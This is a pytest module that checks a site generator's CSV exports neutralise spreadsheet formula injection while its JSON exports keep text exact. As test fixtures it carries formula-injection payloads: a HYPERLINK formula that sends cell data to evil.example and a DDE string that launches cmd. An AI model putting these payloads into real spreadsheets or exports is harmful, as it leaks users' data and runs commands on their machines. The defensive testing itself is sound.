"""The CSV downloads cannot run formulas in a spreadsheet; the JSON downloads stay exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from generator.csvsafe import spreadsheet_cell
from generator.factbase.loader import load_content
from generator.model.report import build_report
from generator.site.datafiles import data_files

from .conftest import make_project

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    project = make_project(tmp_path_factory.mktemp("csv"))
    content = project / "content"
    _replace(
        content / "events/2022-01-02-first-rally.yml",
        "title: First rally in Testville",
        f"title: {json.dumps(FORMULAS[0])}",
    )
    _replace(
        content / "events/2022-01-02-first-rally.yml",
        "summary: People gather in the main square.",
        f"summary: {json.dumps(FORMULAS[1])}",
    )
    _replace(content / "actors/far-union.yml", "name: Far Union", f"name: {json.dumps(FORMULAS[2])}")
    _replace(content / "places/testville.yml", "name: Testville", f"name: {json.dumps(FORMULAS[3])}")
    _replace(content / "places/testville.yml", "longitude: 76.9", "longitude: -76.9")
    loaded = load_content(content)
    assert not loaded.diagnostics
    return data_files(build_report(loaded))


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _cells(files: dict[str, bytes]) -> list[str]:
    return [
        cell
        for name, data in files.items()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(data.decode()))
        for cell in row
    ]


def test_no_csv_cell_starts_a_formula(files: dict[str, bytes]) -> None:
    cells = _cells(files)
    for formula in FORMULAS:
        assert f"'{formula}" in cells, formula
    numeric = {"-76.9"}
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in numeric]


def test_negative_numbers_stay_numbers(files: dict[str, bytes]) -> None:
    rows = list(csv.DictReader(io.StringIO(files["data/places.csv"].decode())))
    assert [row["longitude"] for row in rows if row["id"] == "testville"] == ["-76.9"]


def test_json_keeps_the_text_exactly(files: dict[str, bytes]) -> None:
    events = json.loads(files["data/events.json"])
    assert [e["title"] for e in events if e["id"] == "2022-01-02-first-rally"] == [FORMULAS[0]]
    places = {p["id"]: p for p in json.loads(files["data/places.json"])}
    assert places["testville"]["name"] == FORMULAS[3] and places["testville"]["longitude"] == -76.9


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1"])
def test_every_trigger_character_is_neutralised(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -76.9, 0, 12])
def test_numbers_are_left_alone(value: float) -> None:
    assert spreadsheet_cell(value) == str(value)


def test_chart_data_csv_is_neutralised_too() -> None:
    from generator.charts.plan import Plan

    plan = Plan.__new__(Plan)
    object.__setattr__(plan, "header", ["actor", "value"])
    object.__setattr__(plan, "rows", [["=HYPERLINK(1)", -3]])
    assert plan.csv().decode().splitlines()[1] == "'=HYPERLINK(1),-3"
